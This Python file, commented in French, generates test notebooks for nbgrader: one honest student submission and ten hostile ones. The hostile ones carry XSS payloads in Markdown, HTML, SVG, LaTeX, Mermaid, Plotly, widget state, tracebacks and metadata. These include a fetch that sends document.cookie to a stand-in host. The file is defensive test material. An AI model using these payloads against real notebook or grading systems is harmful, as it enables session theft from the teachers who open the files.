"""Dix copies hostiles et une honnête d'un devoir nbgrader ordinaire : ce qu'elles tentent contre qui les ouvre."""

# ruff: noqa: E501 - une charge hostile se lit sur une ligne
import base64
import json
import struct
import zlib

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_raw_cell

DEVOIR_OUVERT = "ouvert"
CARNET = "enquete"
PIEGE = "http://piege.invalid"  # « .invalid » n'existe pas : une requête s'y voit, elle n'y arrive pas
MARQUE = f"window.PIEGE=(window.PIEGE||0)+1;document.title='PIEGE';fetch('{PIEGE}/vol?'+document.cookie)"
ENONCE = (
    "# Enquête\n\n**Lisez** puis répondez. <div class='alert alert-info'>Un encadré de l'enseignant.</div>\n\n"
    "[Le site du ministère](https://www.education.gouv.fr)"
)


def _meta(nom, **drapeaux):
    valeurs = {"grade": False, "solution": False, "locked": False, "task": False} | drapeaux
    return {"nbgrader": {"grade_id": nom, "schema_version": 3, **valeurs}}


def build_source_ouverte():
    """Le carnet de l'enseignant : un énoncé libre, une rédaction, une fonction et son essai (dont un caché)."""
    essai = "assert double(2) == 4\n### BEGIN HIDDEN TESTS\nassert double(21) == 42, 'valeur cachée 42'\n### END HIDDEN TESTS"
    fonction = "def double(x):\n    ### BEGIN SOLUTION\n    return 2 * x\n    ### END SOLUTION"
    cellules = [
        new_markdown_cell(ENONCE, id="enonce"),
        new_markdown_cell("Votre texte ici.", id="texte", metadata=_meta("texte", grade=True, solution=True, points=4)),
        new_code_cell(fonction, id="fonction", metadata=_meta("fonction", solution=True)),
        new_code_cell(essai, id="essai", metadata=_meta("essai", grade=True, locked=True, points=2)),
        new_markdown_cell("Fin. Relisez-vous.", id="fin", metadata=_meta("fin", locked=True)),
    ]
    noyau = {"name": "python3", "display_name": "Python 3", "language": "python"}
    return new_notebook(cells=cellules, metadata={"kernelspec": noyau})


def image_png(cote=40, couleur=(0, 114, 178)):
    """Un vrai carré de couleur, en PNG."""
    lignes = b"".join(b"\0" + bytes(couleur) * cote for _ in range(cote))

    def bloc(nom, corps):
        return struct.pack(">I", len(corps)) + nom + corps + struct.pack(">I", zlib.crc32(nom + corps))

    tete = struct.pack(">IIBBBBB", cote, cote, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + bloc(b"IHDR", tete) + bloc(b"IDAT", zlib.compress(lignes)) + bloc(b"IEND", b"")


PNG = base64.b64encode(image_png()).decode()
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{MARQUE}"><script>{MARQUE}</script><rect width="9" height="9"/></svg>'
IMAGE_PIEGE = f'<img src="{PIEGE}/pixel.png" onerror="{MARQUE}">'
AFFICHE = "from IPython.display import display\n"


def _publie(objet):
    return f"{AFFICHE}display({objet!r}, raw=True)"


HONNETE = """## Ma réponse

Le total est **exact** : voir le tableau, avec *soin* et a < b.<br>Deuxième ligne.

| Client | Montant |
|---|---:|
| Alix & fils | 1 234,50 € |

1. d'abord
2. ensuite
   - un détail

```python
if total < 3:
    print("<b>petit</b>")
```

Formule : $\\frac{a}{b} \\leq \\sqrt{2}$, et `x < y`.

![mon schéma](attachment:schema.png)
"""
DATAFRAME = """import pandas as pd
pd.DataFrame({"client": ["Alix", "Bela"], "montant": [1234.5, 10.0]})"""

HTML_BRUT = f"""Bonjour

<script>{MARQUE}</script>
{IMAGE_PIEGE} <svg/onload="{MARQUE}"> <details open ontoggle="{MARQUE}">x</details>
<iframe srcdoc="<script>parent.PIEGE=1</script>"></iframe><math><mtext><script>{MARQUE}</script></mtext></math>

<style>body {{background: url({PIEGE}/fond.png)}} .score {{display: none}}</style>
<a href="javascript:{MARQUE}" id="essai">cliquez</a> <div style="position:fixed;inset:0;background:#fff">page blanche</div>
<form action="{PIEGE}"><input name="q" autofocus onfocus="{MARQUE}"></form>
<base href="{PIEGE}/"><meta http-equiv="refresh" content="0;url={PIEGE}/ailleurs"><link rel="stylesheet" href="{PIEGE}/a.css">
"""
LIENS = f"""[un](javascript:{MARQUE}) [deux](java&#115;cript:alert(1)) [trois](&#x6A;avascript&colon;alert(1)) [quatre][r]
<javascript:alert(1)> <{PIEGE}/auto> {PIEGE}/nu www.piege.invalid alix@piege.invalid
[cinq](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [r] ![six][r] [sept](/formgrader/manage_students/%22-alert(1)-%22)

[r]: javascript:alert(1) "titre"
> [s]: {PIEGE}/cite
"""
IMAGES = f"""![pixel]({PIEGE}/pixel.png) ![p]({PIEGE}/p.png "t") ![]({PIEGE}/vide.gif)
![ref][i]

[i]: {PIEGE}/reference.png

| a | b |
|---|---|
| ![c]({PIEGE}/cellule.png) | {IMAGE_PIEGE} |

![manque](attachment:absente.png) ![svg](attachment:dessin.svg) ![html](attachment:page.png)
"""
LATEX = f"""$\\href{{javascript:{MARQUE}}}{{cliquez}}$ $$\\require{{html}}\\style{{background:url({PIEGE}/tex.png)}}{{x}}$$
$\\class{{nbgrader_cell}}{{x}}$ $\\cssId{{essai}}{{y}}$ $\\unicode[Arial;background:url({PIEGE}/u.png)]{{x41}}$
$\\def\\frac#1#2{{\\href{{{PIEGE}}}{{#1}}}}\\frac12$ $\\bbox[url({PIEGE}/b.png)]{{x}}$ $&#92;href{{javascript:alert(1)}}{{z}}$
$\\ne&#119;command{{\\a}}{{b}}$ \\\\(\\url{{{PIEGE}}}\\\\) \\begin{{align}}\\includegraphics{{{PIEGE}/i.png}}\\end{{align}}
"""
DIAGRAMME = f"""```mermaid
graph TD; A["<img src=x onerror={MARQUE}>"] --> B; click A "javascript:alert(1)"
```

# essai

essai-comment
=============

texte
-----
"""
PAGE = f"<p>avant</p>{HTML_BRUT}<table><tr><td onclick='{MARQUE}'>cellule</td></tr></table><p>après $\\href{{javascript:alert(1)}}{{x}}$</p>"
FIGURE = {
    "data": [{"type": "bar", "name": f"<a href='javascript:alert(1)'>Ventes</a>{IMAGE_PIEGE}", "x": [1], "y": [2]}],
    "layout": {"title": {"text": f"<a href='{PIEGE}'>Le mois</a>"}, "images": [{"source": f"{PIEGE}/plotly.png"}]},
}
ETAT = "application/vnd.jupyter.widget-state+json"
COMPOSANTS = {
    "version_major": 2,
    "version_minor": 0,
    "state": {"w": {"model_module": f"{PIEGE}/m.js", "model_module_version": "1", "model_name": "M", "state": {}}},
}
PILE = (
    f"print('<script>{'{'}{'}'}</script>', '\\x1b]8;;javascript:alert(1)\\x07lien\\x1b]8;;\\x07', '\\x1b[31mrouge\\x1b[0m \\x9b31m \\u202einverse')\n"
    f"import sys; sys.stderr.write('<img src=x onerror=alert(1)>')\n"
    f"raise type('<script>alert(1)</script>', (Exception,), {{}})('<svg onload=alert(1)>')"
)


def _copie(publie, texte, code="", pieces=None, suite=()):
    nb = nbformat.from_dict(json.loads(json.dumps(publie)))
    nb.cells[1].source = texte
    if pieces:
        nb.cells[1]["attachments"] = pieces
    nb.cells[2].source = f"def double(x):\n    return 2 * x\n{code}"
    nb.cells += list(suite)
    return nb


def build_copies(publie):
    """Les copies, nom de l'étudiant → (carnet, fichiers joints)."""
    fichiers = {
        "page.html": f"<script>{MARQUE}</script>".encode(),
        "dessin.SVG": SVG.encode(),
        "notes.csv": b"a;b\r\n1;2\r\n",
    }
    pieces = {
        "dessin.svg": {"image/svg+xml": base64.b64encode(SVG.encode()).decode()},
        "page.png": {"image/png": base64.b64encode(HTML_BRUT.encode()).decode(), "text/html": HTML_BRUT},
    }
    fausse = {"image/png": base64.b64encode(SVG.encode()).decode(), "image/svg+xml": SVG}
    ailleurs = {"filenames": {"image/png": f"{PIEGE}/fichier.png"}}
    affiche_image = f"{AFFICHE}display({ {'image/png': PNG}!r}, raw=True, metadata={ailleurs!r})"
    copies = {
        "01-honnete": (_copie(publie, HONNETE, DATAFRAME, {"schema.png": {"image/png": PNG}}), {}),
        "02-html": (_copie(publie, HTML_BRUT), {}),
        "03-liens": (_copie(publie, LIENS), {}),
        "04-images": (_copie(publie, IMAGES, pieces=pieces), {}),
        "05-latex": (_copie(publie, LATEX), {}),
        "06-page": (_copie(publie, "vu", _publie({"text/html": PAGE, "text/markdown": LIENS + IMAGES})), {}),
        "07-scripts": (_copie(publie, "vu", _publie({"application/javascript": MARQUE, "text/plain": "script"})), {}),
        "08-figure": (
            _copie(
                publie,
                "vu",
                _publie(
                    {"application/vnd.plotly.v1+json": FIGURE, "text/html": f"<div><script>{MARQUE}</script></div>"}
                )
                + "\n"
                + _publie({"application/vnd.jupyter.widget-view+json": {"model_id": "w"}, "text/plain": "composant"})
                + "\n"
                + _publie(fausse)
                + "\n"
                + affiche_image,
            ),
            {},
        ),
        "09-titres": (
            _copie(publie, DIAGRAMME, suite=[new_raw_cell(HTML_BRUT, metadata={"raw_mimetype": "text/html"})]),
            {},
        ),
        "10-pile": (_copie(publie, "vu", PILE), {}),
        "11-metadonnees": (_copie(publie, "vu", _publie({"text/html": "<p>isolée</p>"})), fichiers),
    }
    _trafique(copies["11-metadonnees"][0])
    return copies


def _trafique(nb):
    vivant = f'"><script>{MARQUE}</script>'
    nb.metadata.update(
        {
            "widgets": {ETAT: COMPOSANTS},
            "title": vivant,
            "toc": {"base_numbering": vivant},
            "language_info": {
                "name": vivant,
                "pygments_lexer": vivant,
                "mimetype": vivant,
                "codemirror_mode": {"name": vivant},
            },
            "authors": [{"name": vivant}],
        }
    )
    for cellule in nb.cells:
        cellule.metadata.update(
            {"tags": [vivant, "x nbgrader_cell score", "sage"], "trusted": True, "magics_language": vivant}
        )
